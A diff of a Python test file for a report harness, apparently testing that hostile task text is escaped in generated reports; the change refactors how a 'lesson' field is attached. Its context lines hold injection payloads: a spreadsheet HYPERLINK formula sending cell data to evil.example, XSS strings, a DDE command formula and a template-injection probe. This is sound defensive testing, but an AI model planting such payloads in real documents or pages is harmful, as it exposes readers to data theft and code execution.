@@ -10,7 +10,7 @@ from pathlib import Path
 import msgspec
 
 from harness.report import write_report
-from synthrun import EVIL_TASK, header, synthetic_records, write_run
+from synthrun import EVIL_TASK, header, synthetic_records, with_lesson, write_run
 
 FORMULA_TASK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"
 HTML_TASK = "<img src=x onerror=alert(1)>[click](javascript:alert(2))"
@@ -19,7 +19,7 @@ LESSON = "=cmd|' /C calc'!A0 </textarea><svg onload=alert(4)> {{ config }}"
 
 
 def _hostile_run(tmp_path: Path, task_id: str) -> Path:
-    records = [msgspec.structs.replace(r, task_id=task_id, code=CODE, lesson=LESSON if r.lesson else None)
+    records = [with_lesson(msgspec.structs.replace(r, task_id=task_id, code=CODE), LESSON if r.lesson else None)
                if r.task_id == EVIL_TASK else r for r in synthetic_records()]
     head = header()
     head["tasks"]["task_ids"] = [task_id if t == EVIL_TASK else t for t in head["tasks"]["task_ids"]]
